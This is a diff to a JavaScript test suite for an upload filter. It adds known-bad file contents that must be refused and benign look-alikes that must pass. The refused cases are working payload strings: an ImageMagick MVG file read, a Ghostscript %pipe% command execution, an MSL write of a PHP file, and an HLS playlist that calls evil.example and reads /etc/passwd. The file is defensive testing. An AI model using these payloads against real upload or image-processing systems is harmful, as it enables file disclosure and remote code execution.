@@ -75,6 +75,9 @@ describe('contents', () => {
     'auto_prepend_file=x.jpg',
     '<configuration><handlers><add name="x" path="*.jpg" verb="*" scriptProcessor="asp.dll"/></handlers></configuration>',
     '#EXTM3U\n#EXTINF:10.0,\nconcat:http://evil.example/h.txt|file:///etc/passwd\n#EXT-X-ENDLIST',
+    "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'label:@/etc/x'\npop graphic-context",
+    '%!PS\nuserdict /setpagedevice undef\n(%pipe%id) (w) file',
+    '<?xml version="1.0"?><image><read filename="caption:x"/><write filename="/www/x.php"/></image>',
   ])('%s are refused', (content) => {
     expect(refused('filename="a.txt"', 'text/plain', content)).toBe(true)
   })
@@ -83,6 +86,8 @@ describe('contents', () => {
     '#EXTM3U\n#EXTINF:10.0,\nhttps://cdn.example/1.ts\n#EXT-X-ENDLIST',
     'Add type hints to the handler, and set the handler for pictures.',
     'memory_limit = 128M\nupload_max_filesize = 8M\n',
+    'push graphic-context\nfill red\nrectangle 0,0 9,9\npop graphic-context',
+    '%!PS-Adobe-3.0\n%%Title: report\n/Helvetica findfont 12 scalefont setfont',
   ])('%s pass', (content) => {
     expect(refused('filename="a.txt"', 'text/plain', content)).toBe(false)
   })
